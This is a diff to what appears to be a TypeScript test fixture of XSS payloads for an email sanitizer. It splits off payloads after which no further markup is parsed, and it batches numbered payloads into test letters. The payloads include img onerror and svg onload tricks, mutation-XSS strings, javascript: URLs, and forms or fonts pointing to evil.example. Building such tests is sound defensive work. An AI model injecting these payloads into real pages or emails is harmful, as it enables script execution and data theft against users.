@@ -37,7 +37,6 @@ const elements = [
   "<title><img src=x onerror=alert(1)></title>",
   "<xmp><img src=x onerror=alert(1)></xmp>",
   "<plaintext><img src=x onerror=alert(1)>",
-  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
   "<noembed><img src=x onerror=alert(1)></noembed>",
   "<template><img src=x onerror=alert(1)></template>",
   "<video><source onerror=alert(1)></video>",
@@ -59,7 +58,6 @@ const elements = [
   "<input type=image src=x onerror=alert(1)>",
   "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
   "<!--><img src=x onerror=alert(1)>-->",
-  "<!-- --!><img src=x onerror=alert(1)>",
   "<![CDATA[<img src=x onerror=alert(1)>]]>",
   "<?xml version='1.0'?><?x <img src=x onerror=alert(1)>?>",
   "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
@@ -81,7 +79,6 @@ const elements = [
   "<div data-pm-slice='1 1 []'><script>alert(1)</script></div>",
   "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
   "<math><p></p><style><!--</style><img src onerror=alert(1)>--></style></math>",
-  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
   "<math><mi xlink:href='data:text/html,<script>alert(1)</script>'>x</mi></math>",
   "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
   "<svg><title><img src=x onerror=alert(1)></title></svg>",
@@ -134,13 +131,11 @@ const elements = [
   "<slot onslotchange=alert(1)></slot>",
   "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
   "<input type=submit formaction=https://evil.example/ value=x>",
-  "<form action=https://evil.example/><textarea name=x>",
   "<option><style></option></select><img src=x onerror=alert(1)></style>",
   "<select><template><img src=x onerror=alert(1)></template></select>",
   "<table><caption><style></caption><img src=x onerror=alert(1)></style></table>",
   "<frameset><frame src=https://evil.example/></frameset>",
   "<style>@font-face{font-family:x;src:url(https://evil.example/x.woff2)}</style>",
-  "<style>p{color:red}</style><style media='</style><img src=x onerror=alert(1)>'>",
   "<p id=__proto__ class=constructor name=innerHTML>x</p>",
   "<constructor><prototype><p onclick=alert(1)>x",
   "<p constructor=alert(1) __proto__=x tostring=y>x</p>",
@@ -159,8 +154,17 @@ const elements = [
   "<a href='javascript:alert(1)' href='https://a.example/'>x</a>",
   "<img src='data:image/png;base64,iVBORw0KGgo=' src=x onerror=alert(1) alt=x>",
   "<p/*x*/onclick=alert(1)>x</p>",
-  "<svg/onload=alert(1)//",
   "\u202e<img src=x onerror=alert(1)>\u202c",
+];
+
+/** Those after which nothing of a letter is read as markup. */
+const endless = [
+  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+  "<!-- --!><img src=x onerror=alert(1)>",
+  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+  "<form action=https://evil.example/><textarea name=x>",
+  "<svg/onload=alert(1)//",
+  "<style>p{color:red}</style><style media='</style><img src=x onerror=alert(1)>'>",
 ];
 
 const addresses = [
@@ -215,7 +219,24 @@ const styles = [
 ]);
 
 /** HTML that must never run or fetch anything, in whichever way it enters a letter. */
-export const xssPayloads: readonly string[] = [...elements, ...handlers, ...addresses, ...styles];
+export const xssPayloads: readonly string[] = [
+  ...[...elements, ...handlers, ...addresses, ...styles],
+  ...endless,
+];
+
+/** Each payload after a mark, by which one can see that it came in. NUL itself is refused. */
+const marked = xssPayloads.map(
+  (payload, at) => `<p>No ${at}. ${payload.replaceAll("\u0000", "\ufffd")}</p>`,
+);
+
+/** All payloads in few letters: each ends with one after which nothing could follow. */
+export const hostileLetters: readonly string[] = [
+  marked.slice(0, 1 - endless.length).join("\n"),
+  ...marked.slice(1 - endless.length),
+];
+
+/** Returns how many payloads a text of hostile letters has marks of. */
+export const markedIn = (text: string): number => new Set(text.match(/No \d+\./g)).size;
 
 /** Texts that would add headers or parts to an email. */
 export const headerPayloads: readonly string[] = [
